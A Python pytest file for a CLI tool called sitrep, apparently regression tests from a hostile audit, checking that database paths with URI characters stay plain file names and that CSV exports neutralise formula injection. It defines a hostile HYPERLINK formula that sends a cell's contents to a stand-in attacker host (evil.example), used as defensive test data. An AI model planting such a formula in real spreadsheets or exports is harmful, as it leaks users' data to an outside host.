"""What a hostile test of the CLI found (issue 13), kept fixed: outputs never overwrite inputs or stores, `--db`
paths are file names (not URI syntax) and only sitrep stores, CSV cells never run as formulas, bad options are
usage errors, and a closed pipe, Ctrl-C or an unreadable gold file end in one message, not a traceback.

Every file these tests write is under tmp_path (CI runs as root)."""
from __future__ import annotations

import csv
import io
import json
import sqlite3
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ingest_stub import stub_event
from sitrep.cli import app
from sitrep.records import Actor, Article
from sitrep.store import Store, WriteBatch
from sitrep.writers import csv_row

TEXT = "Several hundred nurses marched to the regional assembly on Monday to protest against unpaid wages."


def _article(article_id: str, n: int = 0) -> Article:
    return Article(id=article_id, text=f"{TEXT} ({n})", title=f"Nurses march {n}", published="2022-03-07")


def _fill(path: Path, ids: tuple[str, ...] = ("a1", "a2")) -> Path:
    """A store at `path` with one stub event per article id."""
    with Store.open(path) as store:
        pairs = [(_article(i, n), [stub_event(_article(i, n))], None) for n, i in enumerate(ids)]
        store.write_batch(WriteBatch(articles=pairs))
    return path


def _articles_in(path: Path) -> int:
    with Store.open(path, readonly=True) as store:
        return int(store.counts()["articles"])


# ---------------------------------------------------------------- item 5: --db paths are file names

@pytest.mark.parametrize("name", ["week#12.db", "what?.db", "100%.db", "a%20b.db", "x?mode=rwc&y.db"])
def test_db_path_with_uri_characters_is_a_file_name(tmp_path: Path, name: str) -> None:
    path = _fill(tmp_path / name)
    assert _articles_in(path) == 2
    # nothing else was created beside it (unquoted, `week#12.db` opened a new file `week`)
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.endswith(("-wal", "-shm"))) == [name]
    res = CliRunner().invoke(app, ["stats", "--db", str(path)])
    assert res.exit_code == 0, res.output
    assert "2 articles" in res.stdout


# ---------------------------------------------------------------- item 6: CSV formula injection

HOSTILE = '=HYPERLINK("http://evil.example/?d="&B2,"open")'


def test_csv_neutralises_every_text_cell_and_keeps_numbers(tmp_path: Path) -> None:
    article = _article(HOSTILE)
    event = stub_event(article).replace(actor1=Actor("-2+3", "-2+3", "protesters", "XX"),
                                        articles=(HOSTILE, "@SUM(1)"))
    event = event.replace(where=event.where.replace(lon=-20.5, name="+town"))  # type: ignore[union-attr]
    row = csv_row(event)
    assert row["article"] == "'" + HOSTILE
    assert row["articles"] == "'" + HOSTILE + ";@SUM(1)"
    assert row["actor1"] == "'-2+3" and row["location"] == "'+town"
    assert row["longitude"] == -20.5  # a number stays a number
    raw = csv_row(event, raw=True)
    assert raw["article"] == HOSTILE and raw["actor1"] == "-2+3"
    for value in row.values():
        assert not (isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"))


def test_export_csv_is_neutralised_unless_raw_csv(tmp_path: Path) -> None:
    db = _fill(tmp_path / "s.db", ids=(HOSTILE, "-1"))
    runner = CliRunner()
    res = runner.invoke(app, ["export", "--db", str(db), "--per-article", "-f", "csv"])
    assert res.exit_code == 0, res.output
    articles = sorted(r["article"] for r in csv.DictReader(io.StringIO(res.stdout)))
    assert articles == sorted(["'" + HOSTILE, "'-1"])
    raw = runner.invoke(app, ["export", "--db", str(db), "--per-article", "-f", "csv", "--raw-csv"])
    assert raw.exit_code == 0, raw.output
    assert sorted(r["article"] for r in csv.DictReader(io.StringIO(raw.stdout))) == sorted([HOSTILE, "-1"])
    # JSON is unaffected
    js = runner.invoke(app, ["export", "--db", str(db), "--per-article", "-f", "jsonl"])
    assert sorted(json.loads(line)["article"] for line in js.stdout.splitlines()) == sorted([HOSTILE, "-1"])
